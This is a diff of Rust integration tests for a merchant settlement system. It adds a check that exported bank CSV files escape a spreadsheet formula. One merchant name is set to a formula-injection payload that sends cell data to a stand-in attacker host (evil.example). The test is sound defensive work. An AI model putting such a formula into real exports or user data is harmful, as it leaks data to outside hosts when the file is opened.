@@ -50,7 +50,12 @@ pub(crate) async fn shop_in(app: &TestApp, n: u32, industry: &str, district: &st
     let mut a = application(n, district);
     a["application"]["industry"] = json!(industry);
     a["application"]["scale"] = json!(scale);
-    let (status, body) = app.post("/api/v1/merchant-applications", None, &a).await;
+    shop_from(app, n, &a).await
+}
+
+/// An approved merchant from application `a` (owner `owner{n}`), with a till and its cashier.
+pub(crate) async fn shop_from(app: &TestApp, n: u32, a: &Value) -> Shop {
+    let (status, body) = app.post("/api/v1/merchant-applications", None, a).await;
     assert_eq!(status, StatusCode::CREATED, "{body}");
     let id = body["merchant"]["id"].as_str().unwrap_or_default().to_owned();
     let (_, op) = app.staff(&format!("yichang.op{n}"), Role::Operator, "4205").await;
@@ -580,7 +585,10 @@ async fn a_day_is_settled_once_suspended_merchants_are_held_and_the_banks_confir
     use quan_engine::settlement::Confirmation;
     let app = TestApp::sqlite().await;
     let (cid, bid, official) = campaign(&app).await;
-    let Shop { id: good, cashier: c1, owner: o1, .. } = shop(&app, 10, "catering").await;
+    // The good merchant's legal name is a spreadsheet formula: the bank's files must show it as text.
+    let mut formula = application(10, "420502");
+    formula["application"]["legal_name"] = json!("=HYPERLINK(\"http://evil.example/?\"&A2,\"查看\")");
+    let Shop { id: good, cashier: c1, owner: o1, .. } = crate::api_redemptions::shop_from(&app, 10, &formula).await;
     let Shop { id: bad, cashier: c2, .. } = shop(&app, 11, "catering").await;
     at(&app, "2026-12-05T12:00:00+08:00");
     let mut redemption_ids = Vec::new();
@@ -634,6 +642,21 @@ async fn a_day_is_settled_once_suspended_merchants_are_held_and_the_banks_confir
     let statement = std::fs::read_to_string(dir.path().join("statement-2026-12-05.csv")).unwrap_or_default();
     assert_eq!(statement.lines().count(), 3, "both merchants, held one included: {statement}");
     assert_eq!(csv.lines().count(), 2, "the header and the one merchant paid (the held one is not sent): {csv}");
+    assert!(csv.starts_with("\u{feff}settlement_id,") && statement.starts_with('\u{feff}'), "UTF-8 BOM first");
+    for file in [&csv, &statement] {
+        let mut r = csv::Reader::from_reader(file.as_bytes());
+        let names: Vec<String> = r
+            .records()
+            .filter_map(Result::ok)
+            .filter_map(|rec| rec.iter().find(|c| c.contains("HYPERLINK")).map(String::from))
+            .collect();
+        assert_eq!(names, ["'=HYPERLINK(\"http://evil.example/?\"&A2,\"查看\")"], "shown as text, not run: {file}");
+    }
+    let paid_row = csv.lines().nth(1).unwrap_or_default();
+    assert!(
+        paid_row.contains(",6222020200112233,2000,20.00"),
+        "account and amounts as the bank reads them: {paid_row}"
+    );
     {
         use calamine::Reader;
         let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).unwrap_or_else(|e| panic!("{e}"));
